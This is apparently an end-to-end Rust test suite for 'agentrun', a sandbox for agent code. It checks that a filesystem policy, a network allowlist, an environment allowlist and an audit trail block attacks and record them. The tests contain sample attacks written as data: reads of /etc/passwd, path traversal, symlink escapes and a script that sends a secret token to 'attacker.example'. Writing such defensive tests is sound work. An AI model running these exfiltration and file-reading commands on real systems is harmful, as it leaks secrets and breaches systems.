//! Policy as code, network allowlist and audit trail, end to end through the real binary.
//!
//! Filesystem rules are enforced by Landlock and masked mounts in the kernel: the tests assert
//! what the sandboxed program sees (EACCES, empty masked dirs) and that `agentrun policy check`
//! gives the same answer, with the rule id, from the same profile. Network: the sandbox has
//! only loopback; an allowlisted "host" is a real HTTP server the test runs on the host's
//! loopback, reachable only through agentrun's egress proxy. Every decision agentrun makes is
//! asserted in the audit log (read with `agentrun audit`) and as a `policy.check` span at a
//! real OTLP receiver.

use std::io::{Read, Write};
use std::path::{Path, PathBuf};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use agentrun_e2e::otlp::{OtlpReceiver, ReceivedSpan};
use agentrun_e2e::{
    agentrun, exec_with, setup, tempdir, wait_until, Agentrun, LoopbackServer, RunOutput,
};
use serde_json::Value;

/// A tiny HTTP/1.1 server on the host's loopback: answers every request with a fixed body and
/// keeps what it received.
struct Upstream {
    port: u16,
    received: Arc<Mutex<Vec<String>>>,
    _server: LoopbackServer,
}

const UPSTREAM_BODY: &str = "hello from the allowlisted host";

impl Upstream {
    fn start() -> Upstream {
        let received: Arc<Mutex<Vec<String>>> = Arc::default();
        let r = received.clone();
        let server = LoopbackServer::start(move |mut c| {
            c.set_read_timeout(Some(Duration::from_secs(5))).unwrap();
            let mut buf = vec![0u8; 8192];
            let mut got = Vec::new();
            while !got.windows(4).any(|w| w == b"\r\n\r\n") {
                match c.read(&mut buf) {
                    Ok(0) | Err(_) => break,
                    Ok(n) => got.extend_from_slice(&buf[..n]),
                }
            }
            r.lock()
                .unwrap()
                .push(String::from_utf8_lossy(&got).into_owned());
            let _ = write!(
                c,
                "HTTP/1.1 200 OK\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{UPSTREAM_BODY}",
                UPSTREAM_BODY.len()
            );
        });
        Upstream {
            port: server.port,
            received,
            _server: server,
        }
    }

    fn requests(&self) -> Vec<String> {
        self.received.lock().unwrap().clone()
    }
}

/// A private audit dir and OTLP receiver for one test.
struct Trail {
    audit: tempfile::TempDir,
    rx: OtlpReceiver,
}

impl Trail {
    fn new() -> Trail {
        Trail {
            audit: tempdir(),
            rx: OtlpReceiver::grpc(),
        }
    }

    /// `a` with this trail's audit dir and OTLP endpoint, and no daemon: unless the suite
    /// runs on the warm path (`AGENTRUN_E2E_WARM=1`, hack/test's pass through a daemon), where
    /// the run goes to the daemon like any other (its records and spans are the client's).
    fn wire(&self, a: Agentrun) -> Agentrun {
        let a = self.wire_traces(a);
        if std::env::var("AGENTRUN_E2E_WARM").as_deref() == Ok("1") {
            a
        } else {
            a.env("AGENTRUN_NO_DAEMON", "1")
        }
    }

    /// `a` with this trail's audit dir and OTLP endpoint.
    fn wire_traces(&self, mut a: Agentrun) -> Agentrun {
        for (k, _) in std::env::vars_os() {
            if k.to_string_lossy().starts_with("OTEL_") {
                a = a.env_remove(k);
            }
        }
        a = a.env("AGENTRUN_AUDIT_DIR", self.audit.path());
        for (k, v) in self.rx.otel_env() {
            a = a.env(k, v);
        }
        a
    }

    /// Every audit record, through `agentrun audit --json`.
    fn records(&self, extra: &[&str]) -> Vec<Value> {
        let mut args = vec!["audit", "--json"];
        args.extend_from_slice(extra);
        let out = agentrun(args)
            .env("AGENTRUN_AUDIT_DIR", self.audit.path())
            .run();
        out.success()
            .lines()
            .map(|l| serde_json::from_str(l).unwrap_or_else(|e| panic!("{l}: {e}")))
            .collect()
    }

    fn decisions(&self) -> Vec<Value> {
        self.records(&[])
            .into_iter()
            .filter(|r| r["kind"] == "decision")
            .collect()
    }

    /// The run's `sandbox.exec` span and its `policy.check` children (waits for `n` of them).
    fn spans(&self, n_checks: usize) -> (ReceivedSpan, Vec<ReceivedSpan>) {
        let spans = self
            .rx
            .wait_for_spans(n_checks + 1, Duration::from_secs(10));
        let exec: Vec<&ReceivedSpan> = spans.iter().filter(|s| s.name == "sandbox.exec").collect();
        assert_eq!(exec.len(), 1, "{spans:#?}");
        let checks: Vec<ReceivedSpan> = spans
            .iter()
            .filter(|s| s.name == "policy.check")
            .cloned()
            .collect();
        assert_eq!(checks.len(), n_checks, "{spans:#?}");
        for c in &checks {
            assert_eq!(c.trace_id, exec[0].trace_id);
            assert_eq!(c.parent_span_id, exec[0].span_id, "child of the run's span");
            assert_eq!(c.attr("openinference.span.kind"), "GUARDRAIL");
        }
        (exec[0].clone(), checks)
    }
}

/// Asserts one decision record.
fn assert_decision(r: &Value, action: &str, resource: &str, decision: &str, rule: &str) {
    assert_eq!(r["action"], action, "{r}");
    assert_eq!(r["resource"], resource, "{r}");
    assert_eq!(r["decision"], decision, "{r}");
    assert_eq!(r["rule"], rule, "{r}");
    assert!(!r["reason"].as_str().unwrap_or_default().is_empty(), "{r}");
    assert!(r["time"].as_str().is_some_and(|t| t.ends_with('Z')), "{r}");
    assert_eq!(r["trace_id"].as_str().map(str::len), Some(32), "{r}");
}

fn assert_check_span(s: &ReceivedSpan, action: &str, resource: &str, decision: &str, rule: &str) {
    assert_eq!(s.typed_attr("sandbox.action", "string"), action);
    assert_eq!(s.typed_attr("sandbox.resource", "string"), resource);
    assert_eq!(s.typed_attr("sandbox.decision", "string"), decision);
    assert_eq!(s.typed_attr("sandbox.rule_id", "string"), rule);
    assert!(!s.typed_attr("sandbox.reason", "string").is_empty());
    assert_eq!(
        s.typed_attr("sandbox.blocked", "bool"),
        if decision == "deny" { "true" } else { "false" }
    );
}

/// `agentrun policy check PROFILE ARGS...`: the decision line for one action.
fn policy_check(profile: &str, args: &[&str]) -> RunOutput {
    let mut all = vec!["policy", "check", profile];
    all.extend_from_slice(args);
    agentrun(all).run()
}

fn write_profile(dir: &Path, name: &str, text: &str) -> PathBuf {
    let p = dir.join(name);
    std::fs::write(&p, text).unwrap();
    p
}

/// A world-accessible workspace (the sandbox's root maps to an unprivileged host uid) with a
/// secret file and an `out/` directory.
fn workspace() -> tempfile::TempDir {
    use std::os::unix::fs::PermissionsExt;
    let ws = tempdir();
    std::fs::write(ws.path().join("secret.txt"), "s3cr3t-token\n").unwrap();
    std::fs::create_dir(ws.path().join("out")).unwrap();
    for p in [ws.path().to_path_buf(), ws.path().join("out")] {
        std::fs::set_permissions(&p, std::fs::Permissions::from_mode(0o777)).unwrap();
    }
    std::fs::set_permissions(
        ws.path().join("secret.txt"),
        std::fs::Permissions::from_mode(0o644),
    )
    .unwrap();
    ws
}

#[test]
fn strict_profile_reads_inside_the_workspace_only() {
    let Some(_lock) = setup() else { return };
    let trail = Trail::new();
    let ws = workspace();
    let ws_arg = ws.path().to_str().unwrap();
    let out = trail
        .wire(exec_with(
            ["--profile", "strict", "--workspace", ws_arg],
            [
                "sh",
                "-c",
                "cat /workspace/secret.txt; \
                 cat /etc/passwd && echo READ-ETC; \
                 ls /etc && echo LISTED-ETC; \
                 cat /workspace/../etc/passwd && echo TRAVERSED; \
                 ln -s /etc/passwd /workspace/out/link; cat /workspace/out/link && echo SYMLINKED; \
                 rm -f /workspace/out/link; echo done",
            ],
        ))
        .run();
    let stdout = out.success();
    assert!(stdout.starts_with("s3cr3t-token\n"), "{out}");
    for leaked in [
        "READ-ETC",
        "LISTED-ETC",
        "TRAVERSED",
        "SYMLINKED",
        "root:x:0",
    ] {
        assert!(!stdout.contains(leaked), "{leaked}: {out}");
    }
    let stderr = out.stderr();
    assert_eq!(
        stderr.matches("Permission denied").count(),
        4,
        "read, list, traversal and symlink all denied by the kernel: {out}"
    );
    assert!(stdout.ends_with("done\n"), "{out}");

    // The same profile decides the same way, naming the rule.
    let c = policy_check(
        "strict",
        &[
            "--read",
            "/workspace/secret.txt",
            "--read",
            "/etc/passwd",
            "--read",
            "/workspace/../etc/passwd",
        ],
    );
    assert_eq!(c.code(), 1, "{c}");
    let lines: Vec<String> = c.stdout().lines().skip(1).map(String::from).collect();
    assert!(
        lines[0].starts_with("allow fs.read /workspace/secret.txt rule=filesystem.workspace"),
        "{c}"
    );
    assert!(
        lines[1].starts_with("deny fs.read /etc/passwd rule=filesystem.default"),
        "{c}"
    );
    assert!(
        lines[2].starts_with("deny fs.read /workspace/../etc/passwd rule=filesystem.default"),
        "{c}"
    );

    // What agentrun decided up front: the workspace mount (read-only under strict).
    let d = trail.decisions();
    assert_eq!(d.len(), 1, "{d:?}");
    assert_decision(
        &d[0],
        "fs.mount",
        "ro:/workspace",
        "allow",
        "filesystem.mounts",
    );
    let (exec, checks) = trail.spans(1);
    assert_check_span(
        &checks[0],
        "fs.mount",
        "ro:/workspace",
        "allow",
        "filesystem.mounts",
    );
    assert_eq!(exec.typed_attr("sandbox.violation_count", "int"), "0");
}

#[test]
fn writes_only_under_the_write_controlled_area() {
    let Some(_lock) = setup() else { return };
    let trail = Trail::new();
    let ws = workspace();
    let ws_arg = ws.path().to_str().unwrap();
    let out = trail
        .wire(exec_with(
            ["--profile", "strict", "--workspace", ws_arg],
            [
                "sh",
                "-c",
                "echo a > /workspace/out/result.txt && echo WROTE-OUT; \
                 echo b > /workspace/evil.txt && echo WROTE-WS; \
                 echo c > /usr/evil.txt && echo WROTE-USR; \
                 mkdir /workspace/newdir && echo MKDIR; true",
            ],
        ))
        .run();
    let stdout = out.success();
    assert_eq!(stdout, "WROTE-OUT\n", "{out}");
    assert_eq!(
        std::fs::read_to_string(ws.path().join("out/result.txt")).unwrap(),
        "a\n"
    );
    assert!(!ws.path().join("evil.txt").exists());
    assert!(!ws.path().join("newdir").exists());
    let c = policy_check(
        "strict",
        &[
            "--write",
            "/workspace/out/result.txt",
            "--write",
            "/workspace/evil.txt",
        ],
    );
    let lines: Vec<String> = c.stdout().lines().skip(1).map(String::from).collect();
    assert!(
        lines[0]
            .starts_with("allow fs.write /workspace/out/result.txt rule=filesystem.writable[0]"),
        "{c}"
    );
    assert!(
        lines[1].starts_with("deny fs.write /workspace/evil.txt rule=filesystem.default"),
        "{c}"
    );
}

#[test]
fn hidden_paths_are_masked() {
    let Some(_lock) = setup() else { return };
    let trail = Trail::new();
    let dir = tempdir();
    let profile = write_profile(
        dir.path(),
        "hide.toml",
        "name = \"hide\"\n[filesystem]\nhidden = [\"/etc/default\", \"/etc/hostname\"]\n",
    );
    assert!(Path::new("/etc/default")
        .read_dir()
        .unwrap()
        .next()
        .is_some());
    let out = trail
        .wire(exec_with(
            ["--profile", profile.to_str().unwrap()],
            [
                "sh",
                "-c",
                "echo \"[$(ls -A /etc/default)]\"; echo \"[$(cat /etc/hostname)]\"",
            ],
        ))
        .run();
    assert_eq!(out.success(), "[]\n[]\n", "{out}");
    let c = policy_check(profile.to_str().unwrap(), &["--read", "/etc/default/grub"]);
    assert!(
        c.stdout()
            .contains("deny fs.read /etc/default/grub rule=filesystem.hidden[0]"),
        "{c}"
    );
}

#[test]
fn allowlisted_host_is_reachable_only_through_the_proxy() {
    let Some(_lock) = setup() else { return };
    let trail = Trail::new();
    let up = Upstream::start();
    let allowed = format!("127.0.0.1:{}", up.port);
    let script = format!(
        r#"
import os, socket, urllib.request
print("proxy", os.environ["HTTP_PROXY"], os.environ["https_proxy"])
print("get", urllib.request.urlopen("http://{allowed}/via-get", timeout=10).read().decode())
s = socket.create_connection(("127.0.0.1", 3128), timeout=10)
s.sendall(b"CONNECT {allowed} HTTP/1.1\r\nHost: {allowed}\r\n\r\n")
f = s.makefile("rb")
print("connect", f.readline().decode().strip())
while f.readline() not in (b"\r\n", b""):
    pass
s.sendall(b"GET /via-connect HTTP/1.1\r\nHost: x\r\n\r\n")
print("tunnel", f.read().decode().split("\r\n\r\n", 1)[1])
try:
    socket.create_connection(("127.0.0.1", {port}), timeout=5)
    print("direct loopback OPEN")
except OSError as e:
    print("direct loopback", e.errno)
"#,
        port = up.port
    );
    let out = trail
        .wire(exec_with(
            ["--allow-host", allowed.as_str()],
            ["python3", "-c", script.as_str()],
        ))
        .run();
    let stdout = out.success();
    assert!(
        stdout.contains("proxy http://127.0.0.1:3128 http://127.0.0.1:3128\n"),
        "{out}"
    );
    assert!(stdout.contains(&format!("get {UPSTREAM_BODY}\n")), "{out}");
    assert!(
        stdout.contains("connect HTTP/1.1 200 Connection established\n"),
        "{out}"
    );
    assert!(
        stdout.contains(&format!("tunnel {UPSTREAM_BODY}\n")),
        "{out}"
    );
    // The host's loopback is not the sandbox's: only the proxy reaches it.
    assert!(
        stdout.contains("direct loopback 111\n"),
        "ECONNREFUSED: {out}"
    );
    let reqs = up.requests();
    assert_eq!(reqs.len(), 2, "{reqs:?}");
    assert!(reqs[0].starts_with("GET /via-get HTTP/1.1\r\n"), "{reqs:?}");
    assert!(
        reqs[1].starts_with("GET /via-connect HTTP/1.1\r\n"),
        "{reqs:?}"
    );

    let d = trail.decisions();
    assert_eq!(d.len(), 2, "{d:?}");
    for r in &d {
        assert_decision(r, "net.connect", &allowed, "allow", "cli.allow_host[0]");
    }
    let (exec, checks) = trail.spans(2);
    for c in &checks {
        assert_check_span(c, "net.connect", &allowed, "allow", "cli.allow_host[0]");
        assert_eq!(c.attr("sandbox.id"), exec.attr("sandbox.id"));
        assert_eq!(c.typed_attr("server.port", "int"), up.port.to_string());
    }
    assert_eq!(d[0]["sandbox_id"], exec.attr("sandbox.id"));
    assert_eq!(d[0]["trace_id"], exec.trace_id);
    assert_eq!(exec.typed_attr("sandbox.violation_count", "int"), "0");
    assert!(trail
        .rx
        .wait_for_points(1, Duration::from_millis(300))
        .is_empty());
}

#[test]
fn non_allowlisted_host_is_denied_and_recorded() {
    let Some(_lock) = setup() else { return };
    let trail = Trail::new();
    let up = Upstream::start();
    let allowed = format!("127.0.0.1:{}", up.port);
    let script = r#"
import socket, urllib.request, urllib.error
for url in ["http://evil.example/steal", "http://127.0.0.2:8080/"]:
    try:
        urllib.request.urlopen(url, timeout=10)
        print("OPEN", url)
    except urllib.error.HTTPError as e:
        print(e.code, e.read().decode().strip())
s = socket.create_connection(("127.0.0.1", 3128), timeout=10)
s.sendall(b"CONNECT evil.example:443 HTTP/1.1\r\n\r\n")
print(s.makefile("rb").readline().decode().strip())
"#;
    let out = trail
        .wire(exec_with(
            ["--allow-host", allowed.as_str()],
            ["python3", "-c", script],
        ))
        .run();
    let stdout = out.success();
    assert!(
        stdout.contains(
            "403 agentrun: evil.example:80 denied by rule network.default: evil.example:80 is not in the allowlist\n"
        ),
        "{out}"
    );
    assert!(
        stdout.contains("403 agentrun: 127.0.0.2:8080 denied"),
        "{out}"
    );
    assert!(stdout.contains("HTTP/1.1 403 Forbidden\n"), "{out}");
    assert!(!stdout.contains("OPEN"), "{out}");
    assert!(up.requests().is_empty(), "nothing reached the upstream");

    let d = trail.decisions();
    assert_eq!(d.len(), 3, "{d:?}");
    assert_decision(
        &d[0],
        "net.connect",
        "evil.example:80",
        "deny",
        "network.default",
    );
    assert_decision(
        &d[1],
        "net.connect",
        "127.0.0.2:8080",
        "deny",
        "network.default",
    );
    assert_decision(
        &d[2],
        "net.connect",
        "evil.example:443",
        "deny",
        "network.default",
    );
    let denied = trail.records(&["--deny"]);
    assert_eq!(denied.len(), 3, "{denied:?}");
    let (exec, checks) = trail.spans(3);
    assert_eq!(exec.typed_attr("sandbox.violation_count", "int"), "3");
    let mut resources: Vec<&str> = checks.iter().map(|c| c.attr("sandbox.resource")).collect();
    resources.sort();
    assert_eq!(
        resources,
        ["127.0.0.2:8080", "evil.example:443", "evil.example:80"]
    );
    for c in &checks {
        assert_eq!(c.attr("sandbox.decision"), "deny");
        assert_eq!(c.attr("sandbox.rule_id"), "network.default");
    }
    // The violation counter: one delta data point for the run.
    let points = trail.rx.wait_for_points(1, Duration::from_secs(10));
    assert_eq!(points.len(), 1, "{points:?}");
    let p = &points[0];
    assert_eq!(p.name, "sandbox.violation_count");
    assert_eq!(
        (p.kind, p.monotonic, p.temporality, p.value),
        ("sum", true, 1, 3)
    );
    assert_eq!(p.attributes["sandbox.id"], exec.attr("sandbox.id"));
    // The plain listing shows the resource on one line per record.
    let listing = agentrun(["audit", "--deny"])
        .env("AGENTRUN_AUDIT_DIR", trail.audit.path())
        .run();
    let lines: Vec<String> = listing.stdout().lines().map(String::from).collect();
    assert_eq!(lines.len(), 3, "{listing}");
    assert!(
        lines[0].contains(" deny net.connect evil.example:80 rule=network.default "),
        "{listing}"
    );
}

#[test]
fn multi_step_exfiltration_is_allow_then_deny() {
    let Some(_lock) = setup() else { return };
    let trail = Trail::new();
    let ws = workspace();
    let up = Upstream::start();
    let dir = tempdir();
    let profile = write_profile(
        dir.path(),
        "ci.toml",
        &format!(
            "name = \"exfil-test\"\n[network]\nmode = \"allowlist\"\nallow = [\"127.0.0.1:{}\"]\n",
            up.port
        ),
    );
    let script = r#"
import urllib.request, urllib.error
secret = open("/workspace/secret.txt").read().strip()
print("read", secret)
try:
    urllib.request.urlopen(urllib.request.Request("http://attacker.example/collect", data=secret.encode()), timeout=10)
    print("SENT")
except urllib.error.HTTPError as e:
    print("blocked", e.code)
"#;
    let out = trail
        .wire(exec_with(
            [
                "--profile",
                profile.to_str().unwrap(),
                "--workspace",
                ws.path().to_str().unwrap(),
            ],
            ["python3", "-c", script],
        ))
        .run();
    assert_eq!(out.success(), "read s3cr3t-token\nblocked 403\n", "{out}");
    assert!(up.requests().is_empty());

    let all = trail.records(&[]);
    assert_eq!(all.len(), 3, "{all:?}");
    assert_decision(
        &all[0],
        "fs.mount",
        "rw:/workspace",
        "allow",
        "filesystem.mounts",
    );
    assert_decision(
        &all[1],
        "net.connect",
        "attacker.example:80",
        "deny",
        "network.default",
    );
    assert_eq!(all[2]["kind"], "run");
    assert_eq!(all[2]["exit"], 0);
    assert_eq!(all[0]["sandbox_id"], all[1]["sandbox_id"]);
    assert_eq!(all[1]["sandbox_id"], all[2]["sandbox_id"]);
    assert_eq!(all[0]["profile"], "exfil-test");
    let (_exec, mut checks) = trail.spans(2);
    checks.sort_by_key(|c| c.start_time_unix_nano);
    assert_check_span(
        &checks[0],
        "fs.mount",
        "rw:/workspace",
        "allow",
        "filesystem.mounts",
    );
    assert_eq!(checks[0].attr("sandbox.id"), all[0]["sandbox_id"]);
    assert_eq!(checks[1].attr("sandbox.id"), all[0]["sandbox_id"]);
    assert_check_span(
        &checks[1],
        "net.connect",
        "attacker.example:80",
        "deny",
        "network.default",
    );
}

#[test]
fn raw_sockets_dns_and_direct_ip_fail() {
    let Some(_lock) = setup() else { return };
    let trail = Trail::new();
    let script = r#"
import socket, errno
def attempt(name, f):
    try:
        f()
        print(name, "OPEN")
    except OSError as e:
        print(name, errno.errorcode.get(e.errno, e.errno))
attempt("raw", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP))
attempt("packet", lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0))
attempt("direct", lambda: socket.create_connection(("1.1.1.1", 443), timeout=5))
def udp_dns():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.sendto(b"\x00" * 12, ("8.8.8.8", 53))
attempt("udp53", udp_dns)
attempt("resolve", lambda: socket.getaddrinfo("pypi.org", 443))
"#;
    // With the proxy on (an allowlist): still no other way out.
    let out = trail
        .wire(exec_with(
            ["--allow-host", "pypi.org:443"],
            ["python3", "-c", script],
        ))
        .run();
    let stdout = out.success();
    assert!(stdout.contains("raw EPERM\n"), "{out}");
    // AF_PACKET is refused by the seccomp baseline before the kernel's capability check.
    assert!(stdout.contains("packet EAFNOSUPPORT\n"), "{out}");
    assert!(stdout.contains("direct ENETUNREACH\n"), "{out}");
    assert!(stdout.contains("udp53 ENETUNREACH\n"), "{out}");
    assert!(!stdout.contains("resolve OPEN"), "{out}");
    assert!(!stdout.contains("OPEN"), "{out}");
    // No proxy decision was asked for: nothing went through it.
    assert!(trail.decisions().is_empty());
}

#[test]
fn env_allowlist_refuses_the_run_before_anything_runs() {
    let Some(_lock) = setup() else { return };
    let trail = Trail::new();
    let marker = tempdir();
    let out = trail
        .wire(exec_with(
            [
                "--profile",
                "strict",
                "-e",
                "AWS_SECRET_ACCESS_KEY=x",
                "-e",
                "LANG=C",
            ],
            ["touch", marker.path().join("ran").to_str().unwrap()],
        ))
        .run();
    out.assert_code(126);
    assert_eq!(
        out.stderr(),
        "agentrun: denied by policy: env.set AWS_SECRET_ACCESS_KEY (rule env.allow: AWS_SECRET_ACCESS_KEY is not in env.allow)\n"
    );
    assert!(!marker.path().join("ran").exists());
    let all = trail.records(&[]);
    assert_eq!(all.len(), 3, "{all:?}");
    assert_decision(
        &all[0],
        "env.set",
        "AWS_SECRET_ACCESS_KEY",
        "deny",
        "env.allow",
    );
    assert_decision(&all[1], "env.set", "LANG", "allow", "env.allow[1]");
    assert_eq!(all[2]["kind"], "run");
    assert_eq!(all[2]["decision"], "denied");
    assert_eq!(all[2]["exit"], 126);
    let (exec, checks) = trail.spans(2);
    assert_eq!(exec.typed_attr("sandbox.blocked", "bool"), "true");
    assert_eq!(exec.typed_attr("sandbox.violation_count", "int"), "1");
    assert_eq!(exec.status_code, ReceivedSpan::STATUS_ERROR);
    assert!(checks
        .iter()
        .any(|c| c.attr("sandbox.resource") == "AWS_SECRET_ACCESS_KEY"
            && c.attr("sandbox.decision") == "deny"));
}

#[test]
fn rw_mount_refused_by_profile() {
    let Some(_lock) = setup() else { return };
    let trail = Trail::new();
    let dir = tempdir();
    let out = trail
        .wire(exec_with(
            [
                "--profile",
                "strict",
                "--rw",
                &format!("{}:/data", dir.path().display()),
            ],
            ["true"],
        ))
        .run();
    out.assert_code(126);
    assert!(
        out.stderr()
            .contains("denied by policy: fs.mount rw:/data (rule filesystem.rw_mounts:"),
        "{out}"
    );
    let d = trail.decisions();
    assert_decision(
        &d[0],
        "fs.mount",
        "rw:/data",
        "deny",
        "filesystem.rw_mounts",
    );
}

#[test]
fn policy_check_validates_with_line_field_and_why() {
    let Some(_lock) = setup() else { return };
    let dir = tempdir();
    let good = write_profile(
        dir.path(),
        "good.toml",
        "name = \"good\"\n[network]\nmode = \"allowlist\"\nallow = [\"pypi.org:443\", \"*.pythonhosted.org:443\"]\n",
    );
    let ok = policy_check(
        good.to_str().unwrap(),
        &[
            "--connect",
            "files.pythonhosted.org:443",
            "--connect",
            "evil.example:443",
        ],
    );
    assert_eq!(ok.code(), 1, "a denied action makes the exit code 1: {ok}");
    let lines: Vec<String> = ok.stdout().lines().map(String::from).collect();
    assert!(lines[0].contains("ok (profile \"good\""), "{ok}");
    assert!(lines[0].contains("network allowlist (2 rules)"), "{ok}");
    assert!(
        lines[1].starts_with("allow net.connect files.pythonhosted.org:443 rule=network.allow[1]"),
        "{ok}"
    );
    assert!(
        lines[2].starts_with("deny net.connect evil.example:443 rule=network.default"),
        "{ok}"
    );
    for name in ["default", "strict", "code-interpreter"] {
        policy_check(name, &[]).success();
    }

    let cases: &[(&str, &str)] = &[
        (
            "name = \"x\"\n\n[network]\nmode = \"allowlist\"\nallow = [\"pypi.org:99999\"]\n",
            "line 5: field `network.allow`: \"pypi.org:99999\": invalid port",
        ),
        (
            "[filesystem]\nwritable = [\"tmp\"]\n",
            "line 2: field `filesystem.writable`: tmp is not an absolute path",
        ),
        (
            "[network]\nmode = \"sometimes\"\n",
            "line 2: unknown variant `sometimes`",
        ),
        (
            "[resources]\nmemroy = \"1G\"\n",
            "line 2: unknown field `memroy`",
        ),
    ];
    for (i, (text, want)) in cases.iter().enumerate() {
        let f = write_profile(dir.path(), &format!("bad{i}.toml"), text);
        let out = policy_check(f.to_str().unwrap(), &[]);
        assert_eq!(out.code(), 1, "{out}");
        let err = out.stderr();
        assert_eq!(err.lines().count(), 1, "one line: {out}");
        assert!(err.contains(f.to_str().unwrap()), "{out}");
        assert!(err.contains(want), "want {want:?}: {out}");
    }
    // exec refuses an invalid profile the same way, before anything runs.
    let f = dir.path().join("bad0.toml");
    let out = exec_with(["--profile", f.to_str().unwrap()], ["true"]).run();
    out.assert_agentrun_error();
    assert!(
        out.stderr().contains("line 5: field `network.allow`"),
        "{out}"
    );
}

#[test]
fn audit_since_filters_by_time() {
    let Some(_lock) = setup() else { return };
    let trail = Trail::new();
    trail
        .wire(exec_with(["--profile", "strict", "-e", "NOPE=1"], ["true"]))
        .run()
        .assert_code(126);
    assert_eq!(trail.records(&["--since", "1h"]).len(), 2);
    assert_eq!(trail.records(&["--since", "2999-01-01T00:00:00Z"]).len(), 0);
    let bad = agentrun(["audit", "--since", "yesterday-ish"])
        .env("AGENTRUN_AUDIT_DIR", trail.audit.path())
        .run();
    bad.assert_agentrun_error();
}

#[test]
fn violation_metric_over_otlp_http() {
    let Some(_lock) = setup() else { return };
    let audit = tempdir();
    let rx = OtlpReceiver::http();
    let mut a = exec_with(["--profile", "strict", "-e", "NOPE=1"], ["true"])
        .env("AGENTRUN_AUDIT_DIR", audit.path())
        .env("OTEL_LOG_LEVEL", "debug");
    for (k, _) in std::env::vars_os() {
        if k.to_string_lossy().starts_with("OTEL_") {
            a = a.env_remove(k);
        }
    }
    for (k, v) in rx.otel_env() {
        a = a.env(k, v);
    }
    let out = a.run();
    out.assert_code(126);
    assert!(!out.stderr().contains("telemetry"), "{out}");
    let points = rx.wait_for_points(1, Duration::from_secs(10));
    assert_eq!(points.len(), 1, "{points:?}");
    assert_eq!(points[0].name, "sandbox.violation_count");
    assert_eq!(points[0].value, 1);
    assert_eq!(points[0].attributes["sandbox.profile"], "strict");
    let spans = rx.wait_for_spans(2, Duration::from_secs(10));
    assert!(spans.iter().any(|s| s.name == "policy.check"), "{spans:#?}");
}

/// Turns the host's audit subsystem on for the guard's lifetime (then back to how it was), so
/// that the kernel emits Landlock's denial records. Host-wide: callers hold the exclusive e2e
/// lock, so no other sandbox test sees records it does not expect.
struct AuditOn {
    was_enabled: bool,
}

impl AuditOn {
    fn request(ty: u16, payload: &[u8]) -> Vec<u8> {
        // SAFETY: plain socket(2)/bind/send/recv on a netlink socket we own and close.
        unsafe {
            let fd = libc::socket(libc::AF_NETLINK, libc::SOCK_RAW | libc::SOCK_CLOEXEC, 9);
            assert!(fd >= 0, "netlink audit socket");
            let mut addr: libc::sockaddr_nl = std::mem::zeroed();
            addr.nl_family = libc::AF_NETLINK as u16;
            libc::bind(
                fd,
                (&addr as *const libc::sockaddr_nl).cast(),
                std::mem::size_of::<libc::sockaddr_nl>() as u32,
            );
            let mut msg = Vec::new();
            msg.extend_from_slice(&((16 + payload.len()) as u32).to_ne_bytes());
            msg.extend_from_slice(&ty.to_ne_bytes());
            msg.extend_from_slice(&((libc::NLM_F_REQUEST | libc::NLM_F_ACK) as u16).to_ne_bytes());
            msg.extend_from_slice(&1u32.to_ne_bytes());
            msg.extend_from_slice(&0u32.to_ne_bytes());
            msg.extend_from_slice(payload);
            assert!(libc::send(fd, msg.as_ptr().cast(), msg.len(), 0) > 0);
            let mut buf = vec![0u8; 8192];
            let mut out = Vec::new();
            // AUDIT_GET answers with the status then an ACK; AUDIT_SET with an ACK.
            for _ in 0..2 {
                let n = libc::recv(fd, buf.as_mut_ptr().cast(), buf.len(), libc::MSG_DONTWAIT);
                if n <= 0 {
                    let mut p = libc::pollfd {
                        fd,
                        events: libc::POLLIN,
                        revents: 0,
                    };
                    libc::poll(&mut p, 1, 500);
                    let n = libc::recv(fd, buf.as_mut_ptr().cast(), buf.len(), libc::MSG_DONTWAIT);
                    if n > 0 {
                        out.extend_from_slice(&buf[..n as usize]);
                    }
                } else {
                    out.extend_from_slice(&buf[..n as usize]);
                }
            }
            libc::close(fd);
            out
        }
    }

    fn enabled() -> bool {
        let reply = Self::request(1000, &[]); // AUDIT_GET
                                              // Netlink messages (an ACK and the status, in either order), 4-byte aligned.
        let mut rest = &reply[..];
        while rest.len() >= 16 {
            let len = u32::from_ne_bytes(rest[..4].try_into().unwrap()) as usize;
            let ty = u16::from_ne_bytes([rest[4], rest[5]]);
            if ty == 1000 {
                return u32::from_ne_bytes(rest[20..24].try_into().unwrap()) != 0;
            }
            rest = &rest[((len + 3) & !3).clamp(16, rest.len())..];
        }
        panic!("no AUDIT_GET status in the reply: {reply:?}");
    }

    fn set(on: bool) {
        // struct audit_status { mask = AUDIT_STATUS_ENABLED, enabled, ... }
        let mut st = vec![0u8; 40];
        st[..4].copy_from_slice(&1u32.to_ne_bytes());
        st[4..8].copy_from_slice(&u32::from(on).to_ne_bytes());
        Self::request(1001, &st); // AUDIT_SET
    }

    fn start() -> AuditOn {
        let was_enabled = Self::enabled();
        if !was_enabled {
            Self::set(true);
        }
        assert!(Self::enabled(), "could not enable audit");
        AuditOn { was_enabled }
    }
}

impl Drop for AuditOn {
    fn drop(&mut self) {
        if !self.was_enabled {
            Self::set(false);
        }
    }
}

/// `--profile strict --workspace WS`.
fn strict_with(ws: &tempfile::TempDir) -> [&str; 4] {
    [
        "--profile",
        "strict",
        "--workspace",
        ws.path().to_str().unwrap(),
    ]
}

/// What `kernel_denials_*` run: three accesses Landlock denies under `strict`, one it allows.
const KERNEL_DENIAL_SCRIPT: &str =
    "cat /etc/passwd; ls /root; echo x > /workspace/evil.txt; cat /workspace/secret.txt";

#[test]
fn kernel_denials_are_recorded_from_landlock_audit() {
    if !agentrun_e2e::require_root() {
        return;
    }
    agentrun_e2e::require_bin();
    let _lock = agentrun_e2e::exclusive_lock();
    let trail = Trail::new();
    let ws = workspace();
    let out = {
        let _audit = AuditOn::start();
        trail
            .wire(exec_with(
                strict_with(&ws),
                ["sh", "-c", KERNEL_DENIAL_SCRIPT],
            ))
            .run()
    };
    assert_kernel_denials(&trail, &out, &ws);
}

#[test]
fn kernel_denials_are_recorded_on_the_daemon_path_too() {
    if !agentrun_e2e::require_root() {
        return;
    }
    agentrun_e2e::require_bin();
    let _lock = agentrun_e2e::exclusive_lock();
    let trail = Trail::new();
    let ws = workspace();
    let mut d = agentrun_e2e::Daemon::unstarted();
